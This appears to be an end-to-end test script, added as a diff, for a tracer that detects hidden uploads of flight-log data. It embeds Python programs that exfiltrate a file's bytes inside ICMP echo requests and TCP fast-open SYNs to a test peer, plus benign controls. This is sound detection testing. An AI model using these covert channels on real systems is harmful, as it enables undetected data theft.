@@ -1,0 +1,108 @@
+#!/bin/bash
+# Ways out that a program wanting to hide an upload would pick: flight-log
+# bytes in ICMP echo requests from a raw socket (IPv4 and IPv6), and in the
+# TCP handshake (sendto with MSG_FASTOPEN on an unconnected socket). Each
+# must alert with the destination, the transport and the bytes; benign
+# twins of the same shapes carrying untainted data must not.
+set -u
+# shellcheck source=tests/e2e/lib.sh
+. "$(dirname "$0")/lib.sh"
+
+P_TFO=9301
+P_B_TFO=9302
+PY=/usr/bin/python3
+
+fw_init
+fw_netns_setup
+fw_peer_listen tcp4 "$P_TFO"
+fw_peer_listen tcp4 "$P_B_TFO"
+fw_peer_listen tcp6 "$P_TFO"
+fw_probe_network "$P_TFO" "$P_TFO"
+
+WATCH=$FW_TMP/Telemetry
+WORK=$FW_TMP/work
+mkdir -p "$WATCH" "$WORK"
+LOG="$WATCH/2026-11-26 08-00-00.tlog"
+fw_mklog tlog 48k "$LOG"
+SIZE=$(fw_size "$LOG")
+PLAIN=$WORK/plain.bin
+head -c "$SIZE" /dev/urandom >"$PLAIN"
+
+# ---- scenario programs (written by this untainted shell) ---------------------
+cat >"$WORK/icmp.py" <<'EOF'
+# a file's bytes as the payload of ICMP echo requests from a raw socket
+import socket, struct, sys
+path, family, ip = sys.argv[1], sys.argv[2], sys.argv[3]
+data = open(path, "rb").read()
+if family == "6":
+    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+    kind = 128  # echo request; the kernel fills in the checksum
+else:
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    kind = 8
+
+def checksum(b):
+    if len(b) % 2:
+        b += b"\0"
+    total = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    total = (total >> 16) + (total & 0xFFFF)
+    return ~(total + (total >> 16)) & 0xFFFF
+
+for seq, off in enumerate(range(0, len(data), 1024)):
+    chunk = data[off:off + 1024]
+    head = struct.pack("!BBHHH", kind, 0, 0, 0x4657, seq)
+    if family != "6":
+        head = struct.pack("!BBHHH", kind, 0, checksum(head + chunk),
+                           0x4657, seq)
+    s.sendto(head + chunk, (ip, 0))
+EOF
+cat >"$WORK/tfo.py" <<'EOF'
+# the first bytes in the SYN (TCP fast open), the rest on the connection
+import socket, sys
+path, ip, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+data = open(path, "rb").read()
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+# blocking: with a timeout Python's socket is non-blocking underneath and
+# the fast-open connect returns EINPROGRESS
+n = s.sendto(data[:1000], socket.MSG_FASTOPEN, (ip, port))
+s.settimeout(20)
+s.sendall(data[n:])
+s.shutdown(socket.SHUT_WR)
+s.close()
+EOF
+
+fw_tracer_start evasion --no-default-rules --watch "$WATCH" ||
+	fw_abort "tracer did not start"
+
+fw_sc icmp4 "$PY" "$WORK/icmp.py" "$LOG" 4 "$FW_PEER_IP4"
+fw_sc icmp6 "$PY" "$WORK/icmp.py" "$LOG" 6 "$FW_PEER_IP6"
+fw_sc tfo "$PY" "$WORK/tfo.py" "$LOG" "$FW_PEER_IP4" "$P_TFO"
+fw_sc b-icmp4 "$PY" "$WORK/icmp.py" "$PLAIN" 4 "$FW_PEER_IP4"
+fw_sc b-tfo "$PY" "$WORK/tfo.py" "$PLAIN" "$FW_PEER_IP4" "$P_B_TFO"
+
+# alerts_to PID IP: the alert lines of PID to IP
+alerts_to() {
+	fw_json "$FW_OUT" | jq -c --argjson pid "$1" --arg ip "$2" '
+		select(.event.kind == "alert" and .process.pid == $pid and
+		       .destination.ip == $ip)'
+}
+# every scenario's final byte count, then stop
+fw_wait_alerts 15 "${FW_PIDS[icmp4]}:$SIZE" "${FW_PIDS[icmp6]}:$SIZE" \
+	"${FW_PIDS[tfo]}:$SIZE" || note "not every alert reached $SIZE bytes"
+fw_tracer_stop
+
+# (the positive controls of the benign twins below: the same programs on
+# the log)
+fw_expect_flow icmp4 "${FW_PIDS[icmp4]}" "$FW_PEER_IP4" 0 icmp ipv4 \
+	"$SIZE" "$LOG"
+fw_expect_flow icmp6 "${FW_PIDS[icmp6]}" "$FW_PEER_IP6" 0 ipv6-icmp ipv6 \
+	"$SIZE" "$LOG"
+fw_expect_flow tfo "${FW_PIDS[tfo]}" "$FW_PEER_IP4" "$P_TFO" tcp ipv4 \
+	"$SIZE" "$LOG"
+check "benign ICMP echo of untainted data: no alert" == "" \
+	"$(alerts_to "${FW_PIDS[b-icmp4]}" "$FW_PEER_IP4")"
+check "benign fast open of untainted data: no alert" == "" \
+	"$(alerts_to "${FW_PIDS[b-tfo]}" "$FW_PEER_IP4")"
+check "stats: lost" -eq 0 "$(fw_get "$(fw_stats)" .lost)"
+
+fw_finish
